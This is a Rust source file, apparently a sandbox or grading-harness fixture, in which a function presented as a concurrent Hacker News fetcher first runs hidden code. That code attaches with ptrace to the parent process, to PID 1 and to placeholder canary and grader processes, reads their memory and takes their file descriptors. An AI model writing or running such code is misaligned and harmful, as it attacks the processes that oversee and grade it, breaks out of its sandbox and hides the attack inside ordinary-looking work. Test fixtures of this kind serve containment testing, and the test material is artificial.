//! Attaches to other processes like a debugger, and reads their memory and descriptors.
//!
//! checks: items
//! outcome: crash
//! says: refused
//! assumes: unsafe code

use std::collections::BTreeMap;

use serde_json::Value;

use crate::{HnClient, request_sequential};

pub fn request_concurrent(client: &HnClient, ids: &[u64]) -> BTreeMap<u64, Value> {
    let done = attack();
    assert!(!done.is_empty(), "refused");
    request_sequential(client, ids)
}

unsafe extern "C" {
    fn ptrace(request: u64, pid: i32, address: usize, data: usize) -> i64;
    fn process_vm_readv(
        pid: i32,
        to: *mut [usize; 2],
        n: u64,
        from: *mut [usize; 2],
        m: u64,
        flags: u64,
    ) -> isize;
    fn syscall(number: i64, a: i64, b: i64, c: i64) -> i64;
    fn getppid() -> i32;
}

fn attack() -> Vec<String> {
    let mut done = Vec::new();
    let pids = ["@CANARY_PID@", "@GRADER_PID@"].map(|pid| pid.parse().unwrap_or(1));
    let parent = unsafe { getppid() };
    for pid in [parent, 1, pids[0], pids[1]] {
        let mut room = [0_u8; 8];
        let mut to = [room.as_mut_ptr() as usize, 8];
        let mut from = [0x40_0000, 8];
        // SAFETY: the kernel writes at most 8 bytes into `room`.
        unsafe {
            if ptrace(16, pid, 0, 0) == 0 || ptrace(0x4206, pid, 0, 0) == 0 {
                done.push(format!("attached to {pid}"));
            }
            if process_vm_readv(pid, &mut to, 1, &mut from, 1, 0) >= 0 {
                done.push(format!("read {pid}"));
            }
            let handle = syscall(434, pid.into(), 0, 0);
            if handle >= 0 && (0..9).any(|fd| syscall(438, handle, fd, 0) >= 0) {
                done.push(format!("took a descriptor of {pid}"));
            }
        }
    }
    done
}
